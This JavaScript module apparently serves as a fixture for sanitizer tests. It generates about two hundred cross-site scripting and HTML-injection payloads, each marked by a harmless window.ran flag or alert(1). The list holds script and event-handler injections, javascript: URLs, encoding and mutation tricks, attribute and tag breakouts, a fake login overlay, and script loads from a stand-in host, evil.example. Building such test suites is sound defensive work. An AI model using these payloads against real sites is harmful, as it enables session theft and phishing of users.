// Two hundred texts that try to run, to leave their place or to fake the interface.
//
// Out: PAYLOADS. Each sets `window.ran` or opens a dialog where it runs.

const RUNS = "window.ran=1;alert(1)";

/** What is tried, one a line; RUN stands for a script. */
const TRIED = `
<script>RUN</script>
<ScRiPt>RUN</sCrIpT>
<script src=//evil.example/x.js></script>
<script type=module>RUN</script>
<img src=x onerror="RUN">
<img src=x onerror=RUN//
<svg onload="RUN">
<svg><script>RUN</script></svg>
<svg><animate onbegin="RUN" attributeName=x dur=1s>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>RUN</script></svg>#x">
<math><mtext><table><mglyph><style><img src=x onerror="RUN">
<body onload="RUN">
<iframe src="javascript:RUN">
<iframe srcdoc="<script>parent.ran=1</script>">
<object data="javascript:RUN">
<embed src="javascript:RUN">
<details open ontoggle="RUN">
<video><source onerror="RUN"></video>
<audio src=x onerror="RUN">
<input autofocus onfocus="RUN">
<select autofocus onfocus="RUN">
<textarea autofocus onfocus="RUN">
<marquee onstart="RUN">
<form action="javascript:RUN"><button>Go</button></form>
<button formaction="javascript:RUN">Go</button>
<a href="javascript:RUN">here</a>
<a href="JaVaScRiPt:RUN">here</a>
<a href="java&#10;script:RUN">here</a>
<a href="data:text/html,<script>RUN</script>">here</a>
<base href="//evil.example/">
<meta http-equiv="refresh" content="0;url=javascript:RUN">
<link rel="stylesheet" href="//evil.example/x.css">
<style>*{display:none}</style>
<style>@import url(//evil.example/x.css);</style>
<div style="position:fixed;inset:0;background:#fff">Log in again</div>
<template><script>RUN</script></template>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<xmp><script>RUN</script></xmp>
<plaintext>
<!--><img src=x onerror="RUN">-->
<![CDATA[<script>RUN</script>]]>
<?xml version="1.0"?><script>RUN</script>
{{ 7*7 }}{{ view }}{% include "layout.html" %}
\${RUN}\`RUN\`
&lt;script&gt;RUN&lt;/script&gt;
&#60;script&#62;RUN&#60;/script&#62;
\\u003cscript\\u003eRUN\\u003c/script\\u003e
%3Cscript%3ERUN%3C/script%3E
" onmouseover="RUN" autofocus onfocus="RUN" x="
\u202e\u2066gnp.exe\u2069 <img src=x onerror="RUN">
`;

/** How it leaves its place first. */
const LEAVES = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `</title></textarea></script></style></select></svg>${text}`,
];

export const PAYLOADS = LEAVES.flatMap((leave) =>
  TRIED.trim().split("\n").map((line) => leave(line.replaceAll("RUN", RUNS))),
);
